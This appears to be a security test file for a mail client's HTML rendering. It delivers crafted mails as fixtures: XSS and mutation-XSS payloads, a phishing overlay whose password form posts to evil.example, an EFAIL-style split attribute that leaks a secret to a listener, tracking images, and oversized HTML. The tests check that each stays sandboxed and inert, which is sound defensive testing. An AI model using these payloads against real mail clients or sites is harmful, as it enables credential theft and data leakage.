import { afterAll, beforeAll, expect, test } from 'vitest'
import { newProfile, removeProfile, startApp, writeSetup, type App } from '../support/app.ts'
import { htmlLetter } from '../support/hostile/html-letter.ts'
import { openMail } from '../support/hostile/open-mail.ts'
import { startRequestLog, type RequestLog } from '../support/hostile/request-log.ts'
import { until } from '../support/node-shop.ts'
import { startShopServers, type ShopServers } from '../support/shop-servers.ts'

let servers: ShopServers
let app: App
let listener: RequestLog
const profile = newProfile()
const from = 'Sender <sender@post.example>'
const dialogs: string[] = []

const payloads = [
  '<script>top.ran(1)</script>',
  '<img src=x onerror=top.ran(1)>',
  '<svg><animate onbegin=top.ran(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.ran(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.ran(1)>',
  '<noscript><p title="</noscript><img src=x onerror=top.ran(1)>"></noscript>',
  '<iframe srcdoc="<script>top.ran(1)</script>"></iframe>',
  '<details open ontoggle=top.ran(1)>x</details><script>alert(1)</script>',
]
const overlay =
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><h1>Your password is needed</h1><form action="https://evil.example/"><input type="password" name="p" autofocus><button>Continue</button></form></div>'

/** Just under what is shown formatted. */
const heavyTables = '<table><tr><td>'.repeat(30_000) + 'Deep inside' + '</td></tr></table>'.repeat(15_000)
const heavyRules = `<style>${'p.a{color:red}'.repeat(65_000)}</style><p>After the rules</p>`
const heavyMotion = `<style>@keyframes k{to{left:9px}}</style>${'<b style="animation:k 1s infinite;position:relative">x</b>'.repeat(10_000)}`
const tooLarge = `<p>Too much</p>${'<p>x</p>'.repeat(150_000)}`

beforeAll(async () => {
  servers = await startShopServers()
  listener = await startRequestLog()
  const picture = `<p>Look</p><img src="http://127.0.0.1:${listener.port}/pixel.gif"><style>@import "http://127.0.0.1:${listener.port}/a.css";</style>`
  const mails: Record<string, readonly string[]> = {
    Payloads: [`<p>Before the payloads</p>${payloads.join('\n')}`, ...payloads],
    'Two parts': [`<p>First</p><img src="http://127.0.0.1:${listener.port}/efail?`, '<p>A secret of 4711</p>', '"><p>Third</p>'],
    Overlay: [overlay],
    'Picture one': [picture],
    'Picture two': [picture],
    'Heavy tables': [heavyTables],
    'Heavy rules': [heavyRules],
    'Heavy motion': [heavyMotion],
    'Too large': [tooLarge],
  }
  for (const [subject, parts] of Object.entries(mails)) servers.dovecot.deliver(htmlLetter({ from, subject, parts }))
  app = await startApp({ profile, env: { COMPTOIR_SETUP: writeSetup(profile, servers.setup()) } })
  app.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await app.page.evaluate(() => {
    const hits: unknown[] = []
    Object.assign(globalThis, { ran: (what: unknown) => hits.push(what), ranHits: hits })
  })
  await app.page.locator('[data-sync="idle"]').waitFor()
})

afterAll(async () => {
  await app.close()
  removeProfile(profile)
  listener.stop()
  await servers.stop()
})

const frames = () => app.page.locator('iframe[data-message-frame]')

test('H01: payloads that came by mail are shown as inert parts, each in a frame of its own', async () => {
  const first = await openMail(app.page, 'Payloads')
  await first.getByText('Before the payloads').waitFor()
  expect(await frames().count()).toBe(payloads.length + 1)
  for (const frame of await frames().all()) {
    expect(await frame.getAttribute('sandbox')).toBe('allow-same-origin allow-popups')
    expect(await frame.getAttribute('srcdoc')).toContain(`content="default-src 'none'; img-src data:; style-src 'unsafe-inline'"`)
    expect(
      await frame.contentFrame().locator('script, iframe, svg, math, form, style:not(head style), [onerror], [ontoggle]').count(),
    ).toBe(0)
  }
  expect(await app.page.evaluate(() => (globalThis as unknown as { ranHits: unknown[] }).ranHits)).toEqual([])
  expect(dialogs).toEqual([])
})

test('H04: a part that leaves an attribute open takes nothing of the next part with it', async () => {
  await openMail(app.page, 'Two parts')
  await frames().nth(1).contentFrame().getByText('A secret of 4711').waitFor()
  expect(await frames().count()).toBe(3)
  expect(await frames().first().getAttribute('srcdoc')).not.toContain('4711')
  expect(await frames().nth(2).getAttribute('srcdoc')).toContain('<p>Third</p>')
  expect(listener.connections()).toBe(0)
})

test('H07: a full-screen overlay that asks for a password stays in its frame, without a field to type in', async () => {
  const frame = await openMail(app.page, 'Overlay')
  await frame.getByText('Your password is needed').waitFor()
  expect(await frame.locator('input, button, form').count()).toBe(0)
  const covered = await app.page.evaluate(() => {
    const frameBox = document.querySelector('iframe[data-message-frame]')?.getBoundingClientRect()
    const paneBox = document.querySelector('.reading-scroll')?.getBoundingClientRect()
    const title = document.querySelector('.reading-title')
    const at = title?.getBoundingClientRect()
    const onTop = at === undefined ? null : document.elementFromPoint(at.left + 4, at.top + 4)
    return {
      titleOnTop: onTop === title,
      inPane: frameBox !== undefined && paneBox !== undefined && frameBox.left >= paneBox.left && frameBox.right <= paneBox.right,
    }
  })
  expect(covered).toEqual({ titleOnTop: true, inPane: true })
})

test('H06, L05: images asked for on one mail go through the mailroom, which refuses this computer; the other mail stays blocked', async () => {
  await openMail(app.page, 'Picture two')
  await app.page.locator('[data-remote-images="1"]').waitFor()
  await openMail(app.page, 'Picture one')
  await app.page.getByRole('button', { name: 'Show images' }).click()
  await app.page.getByText('1 image could not be loaded').waitFor()
  expect(listener.connections()).toBe(0)
  await openMail(app.page, 'Picture two')
  await app.page.locator('[data-remote-images="1"]').waitFor()
  expect(await app.page.getByText('image could not be loaded').count()).toBe(0)
  // The control: the listener does hear whoever calls it.
  await fetch(`http://127.0.0.1:${listener.port}/control`)
  expect(listener.paths).toEqual(['/control'])
})

test.each([
  ['Heavy tables', 'Deep inside'],
  ['Heavy rules', 'After the rules'],
  ['Heavy motion', 'x'],
  ['Too large', null],
])('H10: "%s" is shown, or said to be too large, and the list answers after it', async (subject, words) => {
  const began = performance.now()
  const frame = await openMail(app.page, subject)
  if (words === null) await app.page.getByText('Too large to show with formatting').waitFor()
  else await frame.getByText(words).first().waitFor()
  const shownMs = Math.round(performance.now() - began)
  const clicked = performance.now()
  await app.page.locator('.row', { hasText: 'Overlay' }).first().click()
  await until(async () => (await app.page.locator('.reading-title').innerText()) === 'Overlay')
  console.log(`H10 ${subject}: shown in ${shownMs} ms, the list answered in ${Math.round(performance.now() - clicked)} ms`)
})
